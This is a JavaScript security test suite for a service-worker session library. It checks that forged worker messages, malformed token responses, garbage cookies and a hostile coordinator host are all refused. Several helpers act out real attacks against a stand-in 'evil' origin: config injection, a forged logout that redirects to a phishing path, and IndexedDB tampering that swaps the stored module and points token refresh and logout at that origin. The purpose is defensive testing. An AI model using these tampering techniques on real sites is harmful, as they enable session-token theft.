// Hostile input, end to end: a page (any same-origin script) sends the worker oversized,
// wrongly typed, forged-epoch, unknown-version and config-injection messages, and forges
// states on the BroadcastChannel; a token server answers with 10 MB or invalid JSON; the
// shared cross-site cookie holds garbage; page script rewrites the module and the config the
// worker keeps in IndexedDB for its restarts. Each worker reply is an error naming the problem,
// no tab's state changes, the worker still answers `/__lockstep/state`, no bearer ever
// reaches the "evil" origin, and the worker never panics: every service-worker console line
// and exception is recorded over CDP and checked for "panicked" / "unreachable" /
// RuntimeError.

import assert from "node:assert/strict";
import https from "node:https";
import { test } from "node:test";
import {
  cdp, demoConfig, httpsFetch, jsonLogin, recordConsole, waitControlled, waitFor, workerStateRoute,
  watchedSuite,
  closeContext, tlsOptions,
} from "./harness.mjs";

let demo;
let browser;
let swConsole;
watchedSuite((suite) => ({ demo, browser, swConsole } = suite));

/** Runs `fn(context)` in a fresh browser context, the demo reset and serving `config`. */
async function inContext(config, fn) {
  await demo.reset();
  await demo.setConfig(config);
  const context = await browser.newContext();
  try {
    await fn(context);
  } finally {
    await closeContext(context);
  }
}

/** Stops the page's worker over DevTools, so that its next event starts it again; the session. */
async function stoppedWorker(page) {
  const sw = await cdp(page);
  await sw.enable();
  await sw.stopAllWorkers();
  await sw.waitForStatus("stopped");
  return sw;
}

/** Opens `n` tabs on `base` + `/app1/hostile/<i>`, logs in from the first; records subscriber calls. */
async function loggedInTabs(context, base, n = 3) {
  const pages = [];
  for (let i = 0; i < n; i++) {
    const page = await context.newPage();
    page.logs = recordConsole(page);
    await page.goto(`${base}/app${(i % 2) + 1}/hostile/${i}`);
    await waitControlled(page);
    await page.waitForFunction(() => window.demo?.session?.state, null, { polling: 20, timeout: 15_000 });
    pages.push(page);
  }
  assert.equal((await jsonLogin(pages[0])).status, 200);
  await waitFor(async () => (await Promise.all(pages.map(stateOf))).every((s) => s.status === "logged-in"), { message: "every tab logged in" });
  // From here on, every subscriber call is counted.
  await Promise.all(pages.map((p) => p.evaluate(() => {
    window.__calls = 0;
    window.demo.session.subscribe(() => { window.__calls++; });
  })));
  return pages;
}

const stateOf = (page) => page.evaluate(() => {
  const s = window.demo.session.state;
  return { status: s.status, epoch: s.epoch, reason: s.reason, path: location.pathname, calls: window.__calls ?? 0 };
});

/** Waits until every tab handled everything posted so far: a round trip through the worker. */
const roundTrip = (pages) => Promise.all(pages.map((p) => p.evaluate(() => new Promise((resolve) => {
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = resolve;
  navigator.serviceWorker.controller.postMessage({ v: 1, type: "get-state" }, [port2]);
}).then(() => true))));

test("hostile page messages: each gets an error naming the problem; no tab changes; the worker lives; no bearer reaches the evil origin", { timeout: 120_000 }, async () => {
  await inContext(demoConfig(), async (context) => {
    const pages = await loggedInTabs(context, demo.appOrigin);
    const before = await Promise.all(pages.map(stateOf));
    const evil = demo.otherOrigin;

    // Each tab learns when the forged channel posts reached it (a sentinel posted after them).
    await Promise.all(pages.map((t) => t.evaluate(() => {
      window.__sentinel = new Promise((resolve) => {
        const bc = new BroadcastChannel("lockstep");
        bc.onmessage = (e) => { if (e.data === "hostile-sentinel") { bc.close(); resolve(); } };
      });
    })));

    const replies = await pages[2].evaluate(async ([epoch, evil]) => {
      const ask = (msg) => new Promise((resolve) => {
        const { port1, port2 } = new MessageChannel();
        const timer = setTimeout(() => resolve({ timeout: true }), 5000);
        port1.onmessage = (e) => { clearTimeout(timer); resolve(typeof e.data === "string" ? JSON.parse(e.data) : e.data); };
        navigator.serviceWorker.controller.postMessage(msg, [port2]);
      });
      const cases = {
        // name: [message, what the error must name]
        oversizedString: ["x".repeat(10 * 1024 * 1024), "4096"],
        oversizedObject: [{ v: 1, type: "hello", url: `https://x/${"a".repeat(5000)}` }, "4096"],
        typeNotString: [{ v: 1, type: 5 }, "`type`"],
        urlNotString: [{ v: 1, type: "hello", url: { href: "/" } }, "`url`"],
        versionAsString: [{ v: "1", type: "logout" }, "`v`"],
        unknownVersion: [{ v: 2, type: "logout" }, "`v`"],
        noVersion: [{ type: "logout" }, "`v`"],
        forgedEpochLogout: [{ v: 1, type: "logout", epoch: epoch + 1 }, "`epoch`"],
        forgedEpochState: [{ v: 1, type: "get-state", epoch: epoch + 100 }, "`epoch`"],
        forgedState: [{ v: 1, type: "state", state: { status: "logged-out", epoch: epoch + 1 } }, "`type`"],
        configInjection: [{ type: "config", apis: [{ origin: evil, pathPrefix: "/" }] }, "`v`"],
        configInjectionV1: [{ v: 1, type: "config", apis: [{ origin: evil, pathPrefix: "/" }] }, "`type`"],
        configInHello: [{ v: 1, type: "hello", url: location.href, config: { apis: [{ origin: evil, pathPrefix: "/" }] } }, "`config`"],
        notJson: ["{\"v\":1,", "message"],
        array: [[1, 2, 3], "message"],
        number: [42, "message"],
      };
      const out = {};
      for (const [name, [msg, names]] of Object.entries(cases)) out[name] = { reply: await ask(msg), names };
      // Forged channel states: a newer epoch logged out with a navigate, a login for mallory, junk.
      const bc = new BroadcastChannel("lockstep");
      const forged = (state, navigate) => ({ v: 1, type: "state", now: Date.now(), state, idle: null, wakeAt: null, navigate, debug: true });
      bc.postMessage(forged({ status: "logged-out", user: null, expiresAt: null, idleDeadline: null, epoch: epoch + 7, reason: "logout" }, `${evil}/phish`));
      bc.postMessage(JSON.stringify(forged({ status: "logged-in", user: { name: "mallory" }, expiresAt: null, idleDeadline: null, epoch: epoch + 8, reason: null }, null)));
      bc.postMessage({ v: 1, type: "config", apis: [{ origin: evil, pathPrefix: "/" }] });
      bc.postMessage("x".repeat(5 * 1024 * 1024));
      bc.postMessage("hostile-sentinel");
      bc.close();
      return out;
    }, [before[0].epoch, evil]);

    for (const [name, { reply, names }] of Object.entries(replies)) {
      assert.equal(reply?.type, "error", `${name}: ${JSON.stringify(reply).slice(0, 200)}`);
      assert.equal(reply.code, "bad-message", name);
      assert.ok(reply.message.includes(names), `${name}: the error names ${names}: ${reply.message}`);
      assert.ok(reply.message.length < 300, `${name}: a short error`);
    }
    console.log(`# hostile messages: ${Object.keys(replies).length} refused, e.g. ${Object.entries(replies).slice(0, 4).map(([n, r]) => `${n} → "${r.reply.message}"`).join("; ")}`);

    await Promise.all(pages.map((p) => p.evaluate(() => window.__sentinel)));
    await roundTrip(pages);
    const afterwards = await Promise.all(pages.map(stateOf));
    assert.deepEqual(afterwards, before, "no tab changed, no subscriber ran");

    // The worker is alive and believes what it did before.
    const route = await workerStateRoute(pages[1]);
    assert.equal(route.status, 200);
    assert.deepEqual([route.body.state.status, route.body.state.epoch], ["logged-in", before[0].epoch]);
    // The injected origin gets no bearer; the real API still does.
    const answers = await pages[0].evaluate(async ([api, evil]) => {
      const a = await fetch(`${api}/v1/me`);
      const e = await fetch(`${evil}/v1/me`);
      return { api: a.status, evil: await e.json() };
    }, [demo.apiOrigin, evil]);
    assert.equal(answers.api, 200);
    assert.equal(answers.evil.bearer, false);
    const c = await demo.counters();
    assert.equal(c.otherWithBearer, 0, JSON.stringify(c));
    assert.equal(c.logout, 0);
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("hostile token responses (10 MB, invalid JSON, wrong types): a clear 502, the state and the session intact, the worker's memory bounded", { timeout: 120_000 }, async () => {
  await demo.reset();
  await demo.setConfig(demoConfig());
  const context = await browser.newContext();
  try {
    const pages = await loggedInTabs(context, demo.appOrigin, 2);
    const before = await Promise.all(pages.map(stateOf));
    const mem0 = (await workerStateRoute(pages[0])).body.memoryBytes;
    const seen = {};
    for (const variant of ["huge-10mb", "bad-json", "not-object", "number-access-token", "huge-body", "huge-10mb"]) {
      await demo.settings({ loginResponse: variant });
      const answer = await jsonLogin(pages[1]);
      assert.equal(answer.status, 502, `${variant}: ${answer.text.slice(0, 200)}`);
      const body = JSON.parse(answer.text);
      assert.equal(body.error, "lockstep_bad_token_response", variant);
      assert.match(body.message, /^token response/, variant);
      assert.ok(answer.text.length < 1024 && !answer.text.includes("at_bad"), `${variant}: ${answer.text.slice(0, 200)}`);
      seen[variant] = body.message;
    }
    await demo.settings({ loginResponse: null });
    const route = await workerStateRoute(pages[0]);
    const mem1 = route.body.memoryBytes;
    assert.equal(route.status, 200);
    assert.deepEqual(await Promise.all(pages.map(stateOf)), before, "no tab changed");
    assert.equal(await pages[0].evaluate(async (api) => (await fetch(`${api}/v1/me`)).status, demo.apiOrigin), 200, "the session still works");
    // Two 10 MB answers were refused before being copied into the wasm memory.
    assert.ok(mem1 - mem0 <= 1024 * 1024, `wasm memory grew from ${mem0} to ${mem1}`);
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
    console.log(`# hostile token responses: ${JSON.stringify(seen)}; wasm memory ${mem0} → ${mem1} bytes`);
  } finally {
    await demo.settings({ loginResponse: null });
    await closeContext(context);
  }
});

test("garbage in the shared cross-site cookie is ignored: no tab changes, the worker lives", { timeout: 120_000 }, async () => {
  await inContext(demoConfig({ crossSite: { cookieName: "lockstep_session", cookieDomain: "example.test" } }), async (context) => {
    const base = demo.origin("app", "app1.example.test");
    const pages = await loggedInTabs(context, base, 2);
    const before = await Promise.all(pages.map(stateOf));
    const junk = [
      "", "garbage", "live.", "ended.", "live.zzzzzzzzzzzzzzzz", `live.${"0".repeat(4000)}`, "live.0102030405060708.extra",
      "%00%ff%fe", "liv\u00e9.0102030405060708", "ended.01020304050607zz;live.0102030405060708", "{\"v\":1}", "ended.-1",
    ];
    for (const value of junk) {
      // Written by page script, as a hostile script on any example.test app could.
      await pages[0].evaluate((v) => { document.cookie = `lockstep_session=${v}; domain=example.test; path=/; secure; samesite=lax`; }, value);
      // A message and a navigation make the worker re-read the cookie (besides cookiechange).
      await roundTrip(pages);
      await pages[1].reload().catch(async (err) => {
        err.message += `\ncookie ${JSON.stringify(value.slice(0, 40))}: ${JSON.stringify(await Promise.all(pages.map((p) => stateOf(p).catch((e) => String(e)))))} ${pages[1].url()}`;
        throw err;
      });
      await pages[1].waitForFunction(() => window.demo?.session?.state, null, { polling: 20 });
      await pages[1].evaluate(() => {
        window.__calls = 0;
        window.demo.session.subscribe(() => { window.__calls++; });
      });
      await roundTrip(pages);
      assert.deepEqual(await Promise.all(pages.map(stateOf)), before, `cookie ${JSON.stringify(value.slice(0, 40))}: no tab changed`);
    }
    const route = await workerStateRoute(pages[0]);
    assert.equal(route.status, 200);
    assert.equal(route.body.state.status, "logged-in");
    const api = JSON.parse(await pages[0].evaluate(async () => JSON.stringify((await (await fetch("/lockstep.config.json")).json()).apis[0].origin)));
    assert.equal(await pages[0].evaluate(async (api) => (await fetch(`${api}/v1/me`)).status, api), 200);
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("page script that swaps the worker's stored module for its own bytes: the restarted worker refuses them, downloads its own, and keeps the session", { timeout: 120_000 }, async () => {
  await inContext(demoConfig(), async (context) => {
    const pages = await loggedInTabs(context, demo.appOrigin, 1);
    const [page] = pages;
    // Any same-origin script can write the origin's IndexedDB, where the worker keeps the
    // module's bytes for its restarts. Here: a valid module of the attacker's own (empty).
    const swapped = await rewriteStored(page, "module");
    assert.equal(swapped.length, 1, `one stored module: ${JSON.stringify(swapped)}`);
    await demo.reset(); // zeroes the counters; the session is kept
    await demo.setConfig(demoConfig());
    const sw = await stoppedWorker(page);
    // The restarted worker answers from its own module, with the session intact.
    const route = await workerStateRoute(page);
    assert.equal(route.status, 200, JSON.stringify(route).slice(0, 300));
    assert.equal(route.body.state.status, "logged-in");
    assert.equal(await page.evaluate(async (api) => (await fetch(`${api}/v1/me`)).status, demo.apiOrigin), 200, "the session still works");
    const { requests = {} } = await demo.counters();
    const downloads = Object.entries(requests).filter(([k]) => k.split(" ")[2]?.endsWith("/lockstep_bg.wasm")).reduce((n, [, v]) => n + v, 0);
    assert.equal(downloads, 1, "the refused bytes were replaced by a download of the real module");
    // And the real bytes are stored again.
    await waitFor(() => page.evaluate((key) => new Promise((resolve) => {
      const open = indexedDB.open("lockstep", 1);
      open.onsuccess = () => {
        const get = open.result.transaction("state").objectStore("state").get(key);
        get.onsuccess = () => { open.result.close(); resolve(get.result instanceof ArrayBuffer && get.result.byteLength > 1000); };
      };
    }), swapped[0]), { message: "the real module stored again" });
    await sw.detach();
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("page script that rewrites the worker's stored config to add its own API origin: the restarted worker asks the server first, and no bearer reaches that origin", { timeout: 120_000 }, async () => {
  // Tokens kept in IndexedDB, so that the restarted worker holds a token at once.
  await inContext(demoConfig({ tokenStorage: "indexeddb" }), async (context) => {
    const { page, evil, rewritten } = await tamperedConfigTab(context);
    const sw = await stoppedWorker(page);
    // The attacker's request is the one that wakes the worker.
    const answers = await page.evaluate(async ([api, evil]) => {
      const e = await fetch(`${evil}/v1/me`);
      const a = await fetch(`${api}/v1/me`);
      return { evil: await e.json(), api: a.status };
    }, [demo.apiOrigin, evil]);
    assert.equal(answers.evil.bearer, false, "the bearer reached the origin the page wrote into the stored config");
    assert.equal(answers.api, 200, "the session still works on the real API");
    // The server's config is stored again.
    await waitFor(() => page.evaluate(async (key) => {
      const served = await (await fetch(key.slice("config:".length), { cache: "no-store" })).text();
      return new Promise((resolve) => {
        const open = indexedDB.open("lockstep", 1);
        open.onsuccess = () => {
          const get = open.result.transaction("state").objectStore("state").get(key);
          get.onsuccess = () => { open.result.close(); resolve(get.result === served); };
        };
      });
    }, rewritten[0]), { message: "the server's config stored again" });
    // A logout now goes to the real endpoint, once.
    await page.evaluate(() => window.demo.session.logout()).catch(() => {}); // the tab then leaves for /login
    await waitFor(async () => (await demo.counters()).logout === 1, { message: "one logout call at the real endpoint" });
    await sw.detach();
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("page script that rewrites the worker's stored config to drop the token endpoints: a login that wakes the restarted worker still reaches the page without tokens", { timeout: 120_000 }, async () => {
  await inContext(demoConfig(), async (context) => {
    const [page] = await loggedInTabs(context, demo.appOrigin, 1);
    // Without its token endpoints the stored config would let a login answer pass untouched.
    const rewritten = await rewriteStored(page, "no-token-endpoints");
    assert.equal(rewritten.length, 1, `one stored config: ${JSON.stringify(rewritten)}`);
    const sw = await stoppedWorker(page);
    const login = await jsonLogin(page); // wakes the worker
    assert.equal(login.status, 200, login.text);
    const { access_token: access, refresh_token: refresh } = JSON.parse(login.text);
    const { all = [] } = (await httpsFetch(`${demo.appOrigin}/__test/last-tokens`)).json();
    assert.ok(all.length >= 2, "the server issued tokens");
    for (const raw of all) assert.ok(!login.text.includes(raw), "a raw token reached the page");
    assert.ok(access === undefined || !all.includes(access), "the access token reached the page");
    assert.ok(refresh === undefined || !all.includes(refresh), "the refresh token reached the page");
    await sw.detach();
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("page script that rewrites the worker's stored config, then a logout is what wakes the worker: the logout call reaches the real endpoint, once", { timeout: 120_000 }, async () => {
  await inContext(demoConfig({ tokenStorage: "indexeddb" }), async (context) => {
    const { page } = await tamperedConfigTab(context);
    const sw = await stoppedWorker(page);
    await page.evaluate(() => window.demo.session.logout()).catch(() => {}); // the tab then leaves for /login
    await waitFor(async () => (await demo.counters()).logout === 1, { message: "one logout call at the real endpoint" });
    const { requests } = await demo.counters();
    const other = Object.keys(requests).filter((k) => k.startsWith(`${demo.ports.other} `));
    assert.deepEqual(other, [], "nothing reached the origin the page wrote into the stored config");
    await sw.detach();
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

test("page script that rewrites the worker's stored config while the server's own config is one the worker refuses: the restarted worker stays out of the way, and no bearer leaves", { timeout: 120_000 }, async () => {
  await inContext(demoConfig({ tokenStorage: "indexeddb" }), async (context) => {
    const { page, evil } = await tamperedConfigTab(context);
    // Meanwhile the operators deploy a config with a typo, and the browser's cached copy of
    // the old one is gone: the worker's check finds a config it cannot start from.
    await demo.setConfig({ ...demoConfig({ tokenStorage: "indexeddb" }), tokenStorrage: "memory" });
    const sw = await stoppedWorker(page);
    await sw.send("Network.clearBrowserCache");
    const answers = await page.evaluate(async ([api, evil]) => {
      const e = await fetch(`${evil}/v1/me`); // wakes the worker
      const a = await fetch(`${api}/v1/me`);
      const own = await fetch("/__lockstep/state");
      return { evil: await e.json(), api: a.status, blocked: a.headers.get("lockstep-blocked"), own: own.status };
    }, [demo.apiOrigin, evil]);
    // Neither the stored copy nor the refused config is used: no bearer anywhere, nothing
    // answered by the worker (its own route goes to the server, which has no such page).
    assert.equal(answers.evil.bearer, false, "the bearer reached the origin the page wrote into the stored config");
    assert.equal(answers.api, 401, "the real API saw no bearer either");
    assert.equal(answers.blocked, null, "the API's own 401, not one from the worker");
    assert.equal(answers.own, 404, "the worker does not answer its own route");
    assert.equal((await demo.counters()).logout, 0);
    await sw.detach();
    assert.deepEqual(swConsole.crashes(), [], swConsole.lines().join("\n"));
  });
});

/**
 * A tab logged in, whose stored config page script rewrote: any same-origin script can write
 * the origin's IndexedDB, where the worker keeps the config for its restarts. The attacker's
 * origin (`evil`) joins the APIs, and every URL that receives a token points at it.
 */
async function tamperedConfigTab(context) {
  const [page] = await loggedInTabs(context, demo.appOrigin, 1);
  const evil = demo.otherOrigin;
  const rewritten = await rewriteStored(page, "evil-origin", evil);
  assert.equal(rewritten.length, 1, `one stored config: ${JSON.stringify(rewritten)}`);
  return { page, evil, rewritten };
}

/**
 * Rewrites what the worker stored in IndexedDB, as any same-origin script can: "module"
 * puts a valid (empty) module of its own in place of the worker's; "evil-origin" adds `evil`
 * to the config's APIs and points refresh and logout at it; "no-token-endpoints" drops the
 * config's token endpoints. Resolves with the keys rewritten.
 */
function rewriteStored(page, kind, evil) {
  return page.evaluate(([kind, evil]) => new Promise((resolve, reject) => {
    const open = indexedDB.open("lockstep", 1);
    open.onerror = () => reject(open.error);
    open.onsuccess = () => {
      const store = open.result.transaction("state", "readwrite").objectStore("state");
      const keys = store.getAllKeys();
      keys.onsuccess = () => {
        const mine = keys.result.filter((k) => String(k).startsWith(kind === "module" ? "wasm:" : "config:"));
        for (const k of mine) {
          if (kind === "module") {
            store.put(new Uint8Array([0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]).buffer, k);
            continue;
          }
          const get = store.get(k);
          get.onsuccess = () => {
            const config = JSON.parse(get.result);
            if (kind === "evil-origin") {
              config.apis.push({ origin: evil, pathPrefix: "/" });
              config.refresh = { ...config.refresh, url: `${evil}/oauth/token` };
              config.logout = { url: `${evil}/api/logout`, method: "POST" };
            } else {
              delete config.tokenEndpoints;
            }
            store.put(JSON.stringify(config), k);
          };
        }
        store.transaction.oncomplete = () => { open.result.close(); resolve(mine); };
      };
    };
  }), [kind, evil ?? null]);
}

test("a link to the bench page naming another host as its coordinator: the page reports nothing to it and takes no order from it", { timeout: 120_000 }, async () => {
  // A coordinator that orders a logout, on a host with a valid certificate: only the page's own
  // check stands between a crafted link and a logged-out user. Counted at the server.
  const seen = [];
  const server = https.createServer(tlsOptions(), (req, res) => {
    seen.push(`${req.headers.host} ${req.url}`);
    res.setHeader("access-control-allow-origin", "*");
    res.end(JSON.stringify({ do: "logout" }));
  });
  await new Promise((r) => server.listen(0, "127.0.0.1", r));
  const port = server.address().port;
  try {
    await inContext(demoConfig(), async (context) => {
      const [app] = await loggedInTabs(context, demo.appOrigin, 1);
      const open = async (coordinator) => {
        const page = await context.newPage();
        await page.goto(`${demo.appOrigin}/bench.html?tab=0&drive=${encodeURIComponent(coordinator)}`);
        await waitControlled(page);
        // Settles once bench.js has run to its end, the driver included (or the page left on
        // the driver's order): anything it was going to send has been sent by then.
        await page.evaluate(() => import("/bench.js").then(() => true, () => true)).catch(() => {});
        return page;
      };
      // Control: the bench's own loopback coordinator is heard, so the counter can fail.
      const own = await open(`https://localhost:${port}`);
      await waitFor(() => seen.some((s) => s.includes("/ready")), { message: "the loopback coordinator heard the page" });
      await own.close();
      // The app tab follows the logout to the login page, and comes back once logged in again.
      await waitFor(async () => { const s = await stateOf(app); return s.status === "logged-out" && s.path === "/login"; },
        { message: "the loopback coordinator's order was followed" });
      assert.equal((await jsonLogin(app)).status, 200);
      await waitFor(async () => { const s = await stateOf(app); return s.status === "logged-in" && s.path !== "/login"; }, { message: "logged in again" });
      seen.length = 0;

      const page = await open(`https://evil.example.test:${port}`);
      assert.deepEqual(seen, [], "the page reported to, or asked, another host");
      await roundTrip([app, page]);
      assert.equal((await stateOf(app)).status, "logged-in");
      assert.equal(await page.evaluate(() => sessionStorage.getItem("bench:drive")), null);
    });
  } finally {
    server.close();
  }
});
